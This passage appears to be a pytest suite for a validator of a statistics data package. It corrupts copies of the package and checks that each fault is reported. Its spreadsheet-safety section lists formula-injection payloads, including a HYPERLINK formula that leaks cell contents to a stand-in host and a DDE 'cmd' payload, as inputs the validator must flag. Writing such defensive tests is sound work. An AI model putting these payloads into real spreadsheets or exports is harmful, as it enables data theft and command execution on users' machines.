    pkg.set_cell("figures", line, "quote", pkg.cell("figures", line, "quote").replace("\u2018", "'"))
    return [Expect(FIGURES, line, "quote", "quote-characters", ("U+2018",))]


@case("l5-quote-one-letter-changed", "quote-not-found")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.find_line("figures", figure_id=PLAIN)
    quote = pkg.cell("figures", line, "quote")
    assert quote.endswith("arrested")
    pkg.set_cell("figures", line, "quote", quote[:-1] + "s")
    return [Expect(FIGURES, line, "quote", "quote-not-found")]


@case("l5-occurrence-past-last-match", "occurrence-out-of-range")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.find_line("figures", figure_id="fig-0003")
    assert pkg.cell("figures", line, "occurrence") == "2"
    pkg.set_cell("figures", line, "occurrence", "3")
    return [Expect(FIGURES, line, "occurrence", "occurrence-out-of-range", ("2 time(s)",))]


@case("l5-removed-exclusion-leaves-token-uncovered", "token-uncovered")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.find_line("exclusions", source_id="sheffield-telegraph-2018", text="five")
    quote = pkg.cell("exclusions", line, "quote")
    lines = pkg.lines("exclusions")
    del lines[line - 1]
    pkg.write_lines("exclusions", lines)
    seed = pkg.seed_of("sheffield-telegraph-2018")
    return [
        Expect(
            seed,
            pkg.seed_line("sheffield-telegraph-2018", quote, "five"),
            None,
            "token-uncovered",
            ('"five"',),
        )
    ]


@case("l5-exclusion-covers-a-token-twice", "token-covered-twice")
def _(pkg: Pkg) -> list[Expect]:
    # Another quote around the same "five": not a primary-key repeat, but the same token twice.
    first = pkg.find_line("exclusions", source_id="sheffield-telegraph-2018", text="five")
    quote = pkg.cell("exclusions", first, "quote")
    lines = pkg.lines("exclusions")
    lines.append(encode_row(["sheffield-telegraph-2018", "five", quote.removeprefix("in "), "1", "period"]))
    pkg.write_lines("exclusions", lines)
    return [Expect(EXCLUSIONS, len(lines), "text", "token-covered-twice", (f"line {first}",))]


@case("l5-seed-edited-by-one-byte", "seed-checksum")
def _(pkg: Pkg) -> list[Expect]:
    seed = pkg.seed_of("sunday-express-2022")
    raw = bytearray(pkg.read(seed))
    tail = raw.rstrip(b"\n")
    assert tail.endswith(b"Kingdom")
    raw[len(tail) - 1] = ord("n")  # "Kingdon": in no quote and no number
    pkg.write(seed, bytes(raw))
    line = pkg.find_line("sources", source_id="sunday-express-2022")
    return [Expect(SOURCES, line, "sha256", "seed-checksum", (seed,))]


@case("l5-value-text-not-in-quote", "not-in-quote")
def _(pkg: Pkg) -> list[Expect]:
    line = pkg.set_figure(PLAIN, "value_text", "132")
    return [Expect(FIGURES, line, "value_text", "not-in-quote")]


# =============================================================================================
# Layer 6: consistency (warnings only: the package stays valid)
# =============================================================================================


@case("l6-relation-does-not-fit")
def _(pkg: Pkg) -> list[Expect]:
    # From and to swapped: 17,022 to 14,260 is -16.2 per cent, not "almost 20".
    base, new = pkg.cell("relations", 2, "from_figure_id"), pkg.cell("relations", 2, "to_figure_id")
    pkg.set_cell("relations", 2, "from_figure_id", new)
    pkg.set_cell("relations", 2, "to_figure_id", base)
    return [Expect(RELATIONS, 2, "result_figure_id", "relation-mismatch", ("-16.2",), severity="warning")]


# =============================================================================================
# Layer 7: spreadsheet safety
# =============================================================================================

FORMULAS = {
    "hyperlink": '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "plus": "+44 suspects arrested",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "pipe": "|calc",
    "percent": "%APPDATA%",
    "fullwidth-equals": "＝1+1",
    "fullwidth-plus": "＋1",
    "fullwidth-minus": "－1",
    "fullwidth-at": "＠SUM(1)",
    "fullwidth-pipe": "｜calc",
    "fullwidth-percent": "％APPDATA％",
    "leading-tab": "\tsuspects arrested",
    "leading-nul": "\x00suspects arrested",
    "minus-text": "-5 suspects",
}
for _name, _cell in FORMULAS.items():

    @case(f"l7-formula-{_name}", "formula-injection")
    def _(pkg: Pkg, cell: str = _cell) -> list[Expect]:
        line = pkg.set_figure(PLAIN, "measure", cell)
        return [Expect(FIGURES, line, "measure", "formula-injection")]


@case("l7-whole-number-text-cell-is-safe")
def _(pkg: Pkg) -> list[Expect]:
    pkg.set_figure(PLAIN, "notes", "-5")
    return []


# =============================================================================================
# The tests
# =============================================================================================

BY_ID = {c.id: c for c in CASES}
CLI_CASES = [
    "l1-descriptor-syntax-error",
    "l1-csv-symlink-outside-package",
    "l1-seed-symlink-outside-package",
    "l2-cp1252-pound-sign",
    "l2-ragged-row",
    "l3-number-007",
    "l5-quote-no-break-space-typed-as-space",
    "l7-formula-hyperlink",
]


def _errors(problems: list[Problem]) -> set[str]:
    return {p.code for p in problems if p.severity == "error"}


def test_catalogue_is_broad() -> None:
    assert len(CASES) >= 45
    assert len(BY_ID) == len(CASES), "case ids must be unique"
    for c in CASES:
        assert c.errors <= set(CODES), c.id


def test_unbroken_copy_is_valid(package_copy: Path) -> None:
    """The helpers' round trip (re-sync, rewrite) leaves a valid package: cases start from it."""
    pkg = Pkg(package_copy)
    pkg.set_figure(PLAIN, "notes", pkg.cell("figures", pkg.find_line("figures", figure_id=PLAIN), "notes"))
    report = validate_package(package_copy)
    assert report.errors == []
    assert {p.code for p in report.warnings} <= {"statistic-disagreement"}


def _listing(report: Report) -> str:
    return "the report has:\n" + "\n".join(
        f"  {p.path}:{p.line}: {p.field}: {p.code}: {p.message}" for p in report.sorted_problems()
    )


def _watch_opens(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Record the real path of every file opened through open() / Path.open() from now on."""
    opened: list[str] = []
    real_open = io.open

    def watching_open(file: Any, *args: Any, **kwargs: Any) -> Any:
        if isinstance(file, str | os.PathLike):
            opened.append(os.path.realpath(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", watching_open)
    monkeypatch.setattr(io, "open", watching_open)
    return opened


@pytest.mark.parametrize("broken", CASES, ids=lambda c: c.id)
def test_broken_package(broken: Case, package_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pkg = Pkg(package_copy)
    expected = broken.breaks(pkg)
    before = snapshot(package_copy.parent)
    opened = _watch_opens(monkeypatch)

    report = validate_package(package_copy)

    monkeypatch.undo()
    assert snapshot(package_copy.parent) == before, "validation changed a file"
    outside = os.path.realpath(pkg.outside)
    assert not [path for path in opened if path.startswith(outside + os.sep)], "read outside the package"
    found = {(p.path, p.line, p.field, p.code): p for p in report.problems}
    missing = [e.where for e in expected if e.where not in found]
    assert not missing, f"missing {missing}; " + _listing(report)
    for e in expected:
        problem = found[e.where]
        assert problem.severity == e.severity, e.where
        for words in e.contains:
            assert words in problem.message, (e.where, words, problem.message)
    assert _errors(report.problems) == broken.errors, _listing(report)
    assert report.valid is broken.valid
    assert not any(SECRET in p.message or SECRET in (p.field or "") for p in report.problems)


@pytest.mark.parametrize("case_id", CLI_CASES)
def test_cli_on_broken_package(case_id: str, package_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    broken = BY_ID[case_id]
    expected = broken.breaks(Pkg(package_copy))
    before = snapshot(package_copy.parent)

    assert main(["validate", str(package_copy)]) == 1
    text = capsys.readouterr()
    assert main(["validate", str(package_copy), "--format", "json"]) == 1
    as_json = capsys.readouterr()
    assert main(["validate", str(package_copy), "--format", "github"]) == 1
    github = capsys.readouterr()

    assert snapshot(package_copy.parent) == before, "the CLI changed a file"
    for out in (text, as_json, github):
        assert out.err == ""
        assert SECRET not in out.out
    assert text.out.strip().splitlines()[-1].startswith("INVALID:")
    for e in expected:
        line = f"{e.line}:" if e.line is not None else ""
        assert f"{e.path}:{line} {e.field or '-'}: {e.code}:" in text.out
    report = json.loads(as_json.out)
    assert report["valid"] is False
    located = {(p["path"], p["line"], p["field"], p["code"]) for p in report["problems"]}
    assert {e.where for e in expected} <= located
    assert {p["code"] for p in report["problems"] if p["severity"] == "error"} == broken.errors
    assert any(f"title={expected[0].code}::" in line for line in github.out.splitlines())


def test_cli_valid_with_warning_only(package_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    BY_ID["l6-relation-does-not-fit"].breaks(Pkg(package_copy))
    before = snapshot(package_copy)
    assert main(["validate", str(package_copy), "--format", "json"]) == 0
    report = json.loads(capsys.readouterr().out)
    assert report["valid"] is True and report["errors"] == 0
    assert any(p["code"] == "relation-mismatch" for p in report["problems"])
    assert snapshot(package_copy) == before


def test_symlinked_folder_is_refused(package_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """dataset/ itself a link to a folder outside: refused, and nothing outside is read."""
    outside = package_copy.parent / "outside-dataset"
    (package_copy / "dataset").rename(outside)
    (outside / "secret.csv").write_text(f"{SECRET}\n", encoding="utf-8")
    os.symlink(outside, package_copy / "dataset")
    opened = _watch_opens(monkeypatch)
    report = validate_package(package_copy)
    monkeypatch.undo()
    assert not [path for path in opened if path.startswith(os.path.realpath(outside) + os.sep)]
    assert ("dataset", None, None, "symlink") in {(p.path, p.line, p.field, p.code) for p in report.problems}
    assert not any(SECRET in p.message for p in report.problems)
    assert not report.valid


def test_a_huge_quoted_cell_is_reported_not_a_crash(package_copy: Path) -> None:
    """A quoted cell longer than the csv module's field limit is a cell-too-large problem."""
    path = package_copy / "dataset" / "exclusions.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    lines.insert(2, 'deeside-2020,"' + "x" * 200_000 + '",q,1,date')
    path.write_text("\n".join(lines), encoding="utf-8")
    report = validate_package(package_copy)
    assert (EXCLUSIONS, 3, "text", "cell-too-large") in {
        (p.path, p.line, p.field, p.code) for p in report.errors
    }


_CELL_TEXT = st.text(alphabet=st.sampled_from(list(" \t\r\n\x00=+-@|%ax1\uff1d\uff05\uff5c")), max_size=6)


@given(st.lists(_CELL_TEXT, max_size=6))
@example([" \nx"])
@example(["notes\n=x"])
def test_spreadsheet_prefilter_never_hides_a_formula(column: list[str]) -> None:
    """Property: whenever formula_problem flags a cell, the joined-column prefilter matches too."""
    from ukcsa_data.validation.spreadsheet import _POSSIBLE_FORMULA, formula_problem

    if any(formula_problem(cell) for cell in column if cell):
        assert _POSSIBLE_FORMULA.search("\n".join(cell for cell in column if cell))
